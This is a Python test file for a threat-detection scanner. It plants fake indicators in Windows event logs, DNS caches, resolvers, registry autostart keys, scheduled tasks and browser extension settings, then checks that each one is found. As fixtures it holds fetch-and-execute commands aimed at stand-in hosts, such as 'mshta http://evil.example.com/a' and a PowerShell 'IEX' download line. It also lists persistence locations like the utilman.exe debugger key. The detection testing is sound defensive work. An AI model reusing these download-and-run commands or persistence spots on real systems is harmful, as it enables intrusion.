"""Each thing that a scan is to detect, planted.

Event logs, DNS caches, resolvers, extensions, every autostart location of Windows.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from lamsach.model import IndicatorType
from lamsach.scanner.checks import event_logs, names
from lamsach.scanner.checks.browsers import check_browsers
from lamsach.scanner.checks.context import Context
from lamsach.scanner.checks.event_logs import MAGIC, search_event_log
from lamsach.scanner.checks.extensions import check_system
from lamsach.scanner.checks.names import check_names
from lamsach.scanner.checks.processes import check_connections
from lamsach.scanner.checks.settings import check_proxy
from lamsach.scanner.checks.start_windows import start_windows
from lamsach.scanner.index import Hit, Index
from lamsach.scanner.safe_open import Skipped

from .planted import write
from .test_checks_windows import HIDDEN, INTERNET, SERVICES, FakeRegistry

NT = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion"
CURRENT = r"SOFTWARE\Microsoft\Windows\CurrentVersion"
CURRENT_32 = r"SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion"
BAD = "mshta http://evil.example.com/a"


def record(channel: str, event: int, **data: Any) -> str:
    """Return a record in the library's format."""
    system = {"EventID": event, "Channel": channel, "Provider": {"#attributes": {"Name": "x"}}}
    return json.dumps({"Event": {"System": system, "EventData": data}})


SYSMON = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
EVENTS = [
    (SYSMON, 1, {"CommandLine": f'"C:\\Windows\\System32\\mshta.exe" {BAD[6:]}'}, "evil.example.com"),
    (SYSMON, 3, {"DestinationIp": "203.0.113.9", "DestinationPort": 443}, "203.0.113.9"),
    (SYSMON, 3, {"DestinationIp": "198.51.100.77", "DestinationHostname": "-"}, "198.51.100.0/24"),
    (SYSMON, 3, {"DestinationIp": "2001:db8:bad:0:0:0:0:1"}, "2001:db8:bad::1"),
    (SYSMON, 22, {"QueryName": "cdn.evil.example.com", "QueryResults": "-"}, "evil.example.com"),
    (SYSMON, 22, {"QueryName": "a.example", "QueryResults": "::ffff:203.0.113.9;"}, "203.0.113.9"),
    ("Security", 4688, {"CommandLine": f"cmd /c {BAD}"}, "evil.example.com"),
    ("Security", 5156, {"DestAddress": "203.0.113.9", "Direction": "%%14593"}, "203.0.113.9"),
    (POWERSHELL, 4104, {"ScriptBlockText": f"iwr\r\n\t'{BAD[6:]}' |\niex"}, "evil.example.com"),
    (
        POWERSHELL,
        4104,
        {"ScriptBlockText": 'IEX("http://bad.example.net/drop/x.ps1")'},
        "http://bad.example.net/drop",
    ),
    ("Microsoft-Windows-DNS-Client/Operational", 3008, {"QueryName": "evil.example.com"}, "evil.example.com"),
]


class Parser:
    """Stand-in for the library's parser: returns the test's records, or raises an error if one says so."""

    texts: tuple[str, ...] = ()

    def __init__(self, stream: Any) -> None:
        assert stream.read(8) == MAGIC

    def records_json(self) -> Iterator[dict[str, Any]]:
        for number, text in enumerate(self.texts):
            yield {"data": text, "event_record_id": number, "timestamp": "2026-09-26 01:02:03.000000 UTC"}


@pytest.fixture
def log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    import evtx

    monkeypatch.setattr(evtx, "PyEvtxParser", Parser)
    file = tmp_path / "log.evtx"
    file.write_bytes(MAGIC)
    return file


@pytest.mark.parametrize(("channel", "event", "data", "indicator"), EVENTS)
def test_listed_values_in_event_logs_are_found_with_their_time(
    context: Context,
    log: Path,
    monkeypatch: pytest.MonkeyPatch,
    channel: str,
    event: int,
    data: Any,
    indicator: str,
) -> None:
    harmless = record(channel, event, **dict.fromkeys(data, "C:\\Windows\\explorer.exe"))
    monkeypatch.setattr(Parser, "texts", (harmless, record(channel, event, **data)))
    search_event_log(context, str(log))
    (finding,) = context.findings
    assert finding.indicator == indicator
    assert (finding.values["event"], finding.values["channel"], finding.values["record"]) == (
        event,
        channel,
        1,
    )
    assert finding.time is not None
    assert context.counts.events == 2


@pytest.mark.parametrize(
    "text", ["", "[]", "{", '{"Event": 7}', '{"Event": {"System": {"EventID": "x"}}}', "[" * 50_000]
)
def test_odd_records_are_found_without_a_number(
    context: Context, log: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.setattr(Parser, "texts", (text, text + " 203.0.113.9"))
    search_event_log(context, str(log))
    assert [finding.values["event"] for finding in context.findings] == [0]


SAMPLES = Path(__file__).parents[2] / "../shared/samples/evtx/files"


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="the samples are not here")
def test_the_samples_are_read_whole(context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: set[int] = set()
    real = event_logs._what

    def recorded(text: str) -> tuple[int, str]:
        seen.add(real(text)[0])
        return real(text)

    monkeypatch.setattr(event_logs, "_what", recorded)
    monkeypatch.setattr(event_logs, "hits", lambda text, index: [Hit(IndicatorType.IP, "192.0.2.1", "", "")])
    monkeypatch.setattr(event_logs, "_FOUND_PER_FILE", 10_000)
    for file in sorted(SAMPLES.glob("*.evtx")):
        search_event_log(context, str(file))
    assert {1, 3, 5156} <= seen
    assert not context.skips


CACHE = """
Windows IP Configuration

    cdn.evil.example.com
    ----------------------------------------
    Record Name . . . . . : cdn.evil.example.com
    Record Type . . . . . : 1
    A (Host) Record . . . : 192.0.2.1

    unit.example
    ----------------------------------------
    No records of type AAAA
"""


def test_the_cache_of_windows(context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(names, "output_of", lambda command: CACHE)
    names._windows_cache(context)
    assert [(finding.reason, finding.indicator) for finding in context.findings] == [
        ("listed_cache", "evil.example.com")
    ]


@pytest.mark.parametrize(
    ("answer", "found", "skipped"),
    [
        (
            "Scope protocol=dns\ncdn.evil.example.com IN A 192.0.2.1\nunit.example IN AAAA ::1\n",
            ["evil.example.com"],
            [],
        ),
        ("Scope protocol=dns\n", [], []),
        (Skipped("tool_failed"), [], ["tool_failed"]),
        (Skipped("tool_empty"), [], ["tool_empty"]),
    ],
)
def test_the_cache_of_linux(
    context: Context,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    answer: Any,
    found: list[str],
    skipped: list[str],
) -> None:
    def output_of(command: list[str]) -> str:
        if isinstance(answer, Skipped):
            raise answer
        return str(answer)

    names._resolved_cache(context)
    assert not context.skips  # it does not run here
    (tmp_path / "socket").touch()
    monkeypatch.setattr(names, "_RESOLVED", str(tmp_path / "socket"))
    monkeypatch.setattr(names, "output_of", output_of)
    names._resolved_cache(context)
    assert [finding.indicator for finding in context.findings] == found
    assert [skip.reason for skip in context.skips] == skipped


TCPIP = r"SYSTEM\CurrentControlSet\Services\Tcpip\Parameters"


@pytest.mark.parametrize(
    ("key", "name", "data", "found", "removable"),
    [
        (TCPIP, "NameServer", "203.0.113.9,8.8.8.8", True, True),
        (rf"{TCPIP}\Interfaces\{{1}}", "NameServer", "192.0.2.53 203.0.113.9", True, True),
        (rf"{TCPIP}\Interfaces\{{1}}", "DhcpNameServer", "203.0.113.9", True, False),
        (rf"{TCPIP}\Interfaces\{{1}}", "NameServer", "192.0.2.53", False, False),
        (rf"{TCPIP}\Interfaces\{{1}}", "NameServer", b"\xff\xfe\x01", False, False),
        (rf"{TCPIP}\Interfaces\{{1}}", "NameServer", ["203.0.113.9", "x"], True, True),
    ],
)
def test_resolvers_of_windows(
    context: Context, key: str, name: str, data: object, found: bool, removable: bool
) -> None:
    write(context, "etc/hosts", "")
    check_names(context, FakeRegistry({("HKLM", key, name): data}))
    listed = [finding for finding in context.findings if finding.reason == "listed_resolver"]
    assert bool(listed) is found
    assert any(finding.target is not None for finding in listed) is removable


@pytest.mark.parametrize(
    "key",
    [
        ("HKLM", rf"{CURRENT}\Run", "a"),
        ("HKLM", rf"{CURRENT}\RunOnce", "a"),
        ("HKCU", rf"{CURRENT}\RunServices", "a"),
        ("HKCU", rf"{CURRENT}\RunServicesOnce", "a"),
        ("HKLM", rf"{CURRENT}\Policies\Explorer\Run", "a"),
        ("HKLM", rf"{CURRENT_32}\Run", "a"),
        ("HKU", rf"S-1-5-21-1-2-3-1001\{CURRENT}\RunOnce", "a"),
        ("HKLM", rf"{SERVICES}\Bad", "ImagePath"),
        ("HKLM", rf"{SERVICES}\Bad\Parameters", "ServiceDll"),
        ("HKLM", rf"{NT}\Winlogon", "Shell"),
        ("HKCU", rf"{NT}\Winlogon", "Userinit"),
        ("HKLM", rf"{NT}\Image File Execution Options\utilman.exe", "Debugger"),
        ("HKLM", rf"{NT}\Windows", "AppInit_DLLs"),
    ],
)
@pytest.mark.parametrize(
    "data", [BAD, [BAD], BAD.encode("utf-16-le"), BAD.encode("utf-16-le") + b"x", BAD.encode()]
)
def test_every_place_that_starts_something(context: Context, key: tuple[str, str, str], data: object) -> None:
    start_windows(context, FakeRegistry({key: data}))
    found = [finding for finding in context.findings if finding.indicator == "evil.example.com"]
    assert found
    assert all(finding.target is not None for finding in found)


@pytest.mark.parametrize(
    "data", [7, None, b"", b"\x01", 2**70, [], [None, 3], object(), "", "\0\0", "\ud800"]
)
def test_values_of_the_wrong_type_are_read_all_the_same(context: Context, data: object) -> None:
    keys = [
        ("HKLM", rf"{CURRENT}\Run", "a"),
        ("HKLM", rf"{NT}\Winlogon", "Shell"),
        ("HKLM", rf"{NT}\Windows", "AppInit_DLLs"),
    ]
    keys += [
        ("HKLM", rf"{SERVICES}\x", "ImagePath"),
        ("HKCU", INTERNET, "ProxyServer"),
        ("HKCU", INTERNET, "ProxyEnable"),
    ]
    registry = FakeRegistry({**dict.fromkeys(keys, data), ("HKLM", rf"{CURRENT}\Run", "bad"): BAD})
    start_windows(context, registry)
    check_proxy(context, registry)
    assert "evil.example.com" in {finding.indicator for finding in context.findings}


def test_a_task_and_a_start_up_folder(context: Context) -> None:
    text = (
        f"<Task><Actions><Exec><Command>{HIDDEN.split()[0]}</Command><Arguments>{BAD}</Arguments></Exec>"
        "</Actions></Task>"
    )
    file = write(context, "Windows/System32/Tasks/Maker/Update", "")
    file.write_bytes(text.encode("utf-16"))
    start = write(
        context, "home/nam/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/bad.vbs", "x"
    )
    write(context, f"{start.parent.relative_to(context.root)}/desktop.ini", "x")
    start_windows(context, FakeRegistry({}))
    assert {finding.subject for finding in context.findings if finding.indicator} == {str(file)}
    assert context.counts.start_entries == 2


@pytest.mark.parametrize(
    ("entry", "found"),
    [
        ({"type": "extension", "location": "app-system-share", "defaultLocale": {"name": "Odd"}}, ["Odd"]),
        ({"type": "extension", "location": "winreg-app-global", "id": "a@b"}, ["a@b"]),
        ({"type": "extension", "location": "app-profile", "signedState": 0, "id": "a@b"}, ["a@b"]),
        ({"type": "extension", "location": "app-profile", "signedState": 2, "id": "a@b"}, []),
        ({"type": "theme", "location": "app-system-share", "id": "a@b"}, []),
        ({"type": "extension", "location": "app-builtin", "signedState": 0, "id": "a@b"}, []),
        ({"type": "extension", "location": ["x"], "signedState": {}}, []),
        (7, []),
    ],
)
def test_extensions_of_firefox(context: Context, entry: Any, found: list[str]) -> None:
    write(context, "home/nam/.mozilla/firefox/x.default/extensions.json", json.dumps({"addons": [entry]}))
    check_browsers(context)
    assert [finding.values["name"] for finding in context.findings] == found


@pytest.mark.parametrize(
    ("path", "document", "found"),
    [
        ("opt/google/chrome/extensions/abc.json", {"external_crx": "/opt/x/a.crx"}, ["abc"]),
        (
            "usr/share/chromium/extensions/abc.json",
            {"external_update_url": "https://evil.example.com/u"},
            ["abc"],
        ),
        (
            "usr/share/chromium/extensions/abc.json",
            {"external_update_url": "https://clients2.google.com/service/update2/crx"},
            [],
        ),
        (
            "etc/chromium/policies/managed/p.json",
            {"ExtensionInstallForcelist": ["abc;https://a.example/u", "def"]},
            ["abc"],
        ),
        ("etc/chromium/policies/managed/p.json", {"ExtensionInstallForcelist": 7}, []),
        ("etc/chromium/policies/managed/p.json", ["x"], []),
    ],
)
def test_extensions_laid_down_on_linux(context: Context, path: str, document: Any, found: list[str]) -> None:
    write(context, path, json.dumps(document))
    check_browsers(context)
    assert [finding.values["name"] for finding in context.findings] == found


CHROME = r"SOFTWARE\Google\Chrome\Extensions\abc"
FORCED = r"SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist"


@pytest.mark.parametrize(
    ("values", "found"),
    [
        ({("HKLM", CHROME, "path"): r"C:\x\a.crx", ("HKLM", CHROME, "version"): "1"}, ["abc"]),
        ({("HKCU", CHROME, "update_url"): "https://a.example/u"}, ["abc"]),
        ({("HKLM", CHROME, "update_url"): "https://clients2.google.com/service/update2/crx"}, []),
        ({("HKLM", FORCED, "1"): "abc;https://a.example/u"}, ["abc"]),
        ({("HKLM", FORCED, "1"): "abc"}, []),
        ({("HKLM", FORCED, "1"): 7}, []),
    ],
)
def test_extensions_laid_down_on_windows(
    context: Context, values: dict[tuple[str, str, str], object], found: list[str]
) -> None:
    check_system(context, FakeRegistry(values))
    assert [finding.values["name"] for finding in context.findings] == found


@pytest.mark.skipif(sys.platform != "linux", reason="the classes of the disk's queue are Linux's")
def test_the_scan_lowers_its_priority() -> None:
    code = (
        "import os, psutil; from lamsach.scanner.priority import step_back; step_back(); p = "
        "psutil.Process(); print(os.nice(0), int(p.ionice().ioclass))"
    )
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    niceness, disk = map(int, ran.stdout.split())
    assert niceness >= 15
    assert disk in (0, 3)  # 0: the system refuses classes


def test_a_connection_of_this_machine_is_found(context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
    """The real list of connections of this machine; one of the remote addresses counts as listed."""

    def covering(index: Index, kind: IndicatorType, value: str) -> Hit | None:
        return Hit(kind, value, "bot", "l:1") if value == "127.0.0.1" else None

    monkeypatch.setattr(Index, "covering", covering)
    with (
        socket.create_server(("127.0.0.1", 0)) as server,
        socket.create_connection(server.getsockname()),
    ):
        check_connections(context)
    assert "127.0.0.1" in {finding.indicator for finding in context.findings}
